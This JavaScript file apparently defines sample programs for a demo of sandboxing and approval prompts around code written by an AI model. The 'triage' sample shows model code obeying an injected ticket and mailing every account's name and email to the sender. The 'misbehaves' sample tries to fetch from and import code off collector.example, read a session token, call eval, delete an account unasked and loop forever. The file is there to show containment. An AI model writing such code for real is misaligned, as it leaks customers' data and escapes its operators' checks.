/*
 * Owns the programs to choose from: their text, as a model would write it, and what the page shows beside each. What must hold: each runs
 * as it stands against functions.js, and says something different about approvals. `shows`: the tables that matter to it.
 */

const cleanup = `// Remove accounts that nobody has used for 18 months.
const cutoff = new Date();
cutoff.setMonth(cutoff.getMonth() - 18);

const inactive = await accounts.list({ status: 'inactive' });
const stale = inactive.filter(
  ({ lastSeen, openInvoices }) =>
    new Date(lastSeen) < cutoff && openInvoices === 0,
);
console.log(\`\${stale.length} of \${inactive.length} accounts are stale\`);

const removed = [];
const kept = [];
for (const { id, name, lastSeen } of stale) {
  try {
    await accounts.remove({ id, reason: \`unused since \${lastSeen}\` });
    removed.push(name);
  } catch (error) {
    if (!(error instanceof ApprovalRejected)) throw error;
    console.warn(\`\${name} stays: \${error.reason ?? 'refused'}\`);
    kept.push(name);
  }
}

return { removed, kept };
`;

const report = `// Revenue by region over the last twelve months.
interface Region {
  orders: number;
  revenue: number;
  refunds: number;
  amounts: number[];
}

const regions = new Map<string, Region>();
let pages = 1;
for (let page = 1; page <= pages; page++) {
  const result = await orders.list({ page, pageSize: 1000 });
  pages = result.pages;
  for (const { region, amount, status } of result.rows) {
    const row = regions.get(region) ?? {
      orders: 0, revenue: 0, refunds: 0, amounts: [],
    };
    row.orders += 1;
    if (status === 'refunded') row.refunds += 1;
    else row.revenue += amount;
    row.amounts.push(amount);
    regions.set(region, row);
  }
  console.log(\`page \${page} of \${pages}: \${result.rows.length} rows\`);
}

const median = (list: number[]): number =>
  list.sort((a, b) => a - b)[list.length >> 1];

return [...regions]
  .sort(([, a], [, b]) => b.revenue - a.revenue)
  .map(([region, { orders, revenue, refunds, amounts }]) => ({
    region,
    orders,
    revenue: Math.round(revenue),
    median: median(amounts),
    refunded: \`\${((100 * refunds) / orders).toFixed(1)} %\`,
  }));
`;

const triage = `// Label the open tickets and answer those that are urgent.
const open = await tickets.list();
const urgent = open.filter(({ subject, body }) =>
  /urgent|charged twice|locked out/i.test(subject + ' ' + body),
);

await Promise.all(
  open.map(ticket => tickets.label({
    id: ticket.id,
    label: urgent.includes(ticket) ? 'urgent' : 'normal',
  })),
);
console.log(\`\${urgent.length} of \${open.length} tickets are urgent\`);

const outcome = [];
for (const { id, name, from, subject, body: asked } of urgent) {
  let body = \`Dear \${name},\\n\\nsomebody is on it right now.\`;
  // The system notice wants the list of accounts.
  if (/full list of accounts/i.test(asked)) {
    const all = await accounts.list({});
    body = all.map(({ name, email }) => \`\${name} <\${email}>\`).join('\\n');
  }
  try {
    await mail.send({
      to: from, subject: \`Re: \${subject} [\${id}]\`, body,
    });
    outcome.push({ ticket: id, mailed: true });
  } catch (error) {
    outcome.push({ ticket: id, mailed: false, why: error.message });
  }
}
return outcome;
`;

const payment = `// Pay what is due this week.
const due = await invoices.due();

const paid = [];
for (const { id, supplier, iban, total } of due) {
  try {
    const { payment, amount } = await payments.send({
      invoice: id,
      iban,
      amount: total, // whatever was paid on it before
      reference: \`\${id} \${supplier}\`,
    });
    paid.push({ supplier, amount, payment });
  } catch (error) {
    console.error(\`\${supplier}: \${error.message}\`);
    paid.push({ supplier, amount: 0, payment: error.name });
  }
}
return paid;
`;

const misbehaves = `// Everything that code from elsewhere should not get away with.
const attempts = {
  network: () => fetch('https://collector.example/'),
  page: () => document.body.remove(),
  storage: () => localStorage.getItem('session'),
  evaluate: () => eval('1 + 1'),
  generate: () => accounts.list.constructor('return this')(),
  module: () => import('https://collector.example/more.js'),
};
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    console.error(\`\${name} worked\`, await attempt());
  } catch (error) {
    console.log(\`\${name}: \${error.name}: \${error.message}\`);
  }
}

// Delete without asking.
try {
  await accounts.remove({ id: 'acc-101', reason: 'why not' });
  console.error('an account is gone');
} catch (error) {
  console.log(\`remove: \${error.name}: \${error.message}\`);
}

// And never come back.
let spins = 0;
while (true) spins += 1;
`;

export const programs = [
  {
    id: 'clean-up',
    title: 'Clean up old records',
    note: 'Four deletes, and each waits for your yes.',
    code: cleanup,
    mode: 'pause',
    shows: ['accounts'],
  },
  {
    id: 'report',
    title: 'Report over 4,200 rows',
    note: 'It only reads, so nobody is asked. TypeScript runs as it is.',
    code: report,
    mode: 'pause',
    shows: ['orders'],
  },
  {
    id: 'triage',
    title: 'Triage that mails people',
    note: 'One ticket is a trap, and the model walked into it.',
    code: triage,
    mode: 'pause',
    shows: ['tickets', 'outbox'],
  },
  {
    id: 'payment',
    title: 'Pay the invoices',
    note: 'One amount is wrong: edit it before you sign.',
    code: payment,
    mode: 'pause',
    shows: ['invoices', 'payments'],
  },
  {
    id: 'misbehaves',
    title: 'Code that misbehaves',
    note: 'It tries to get out, deletes unasked, then loops. Limit: 3 s.',
    code: misbehaves,
    mode: 'deny',
    limits: { timeoutMs: 3_000 },
    shows: ['accounts'],
  },
];
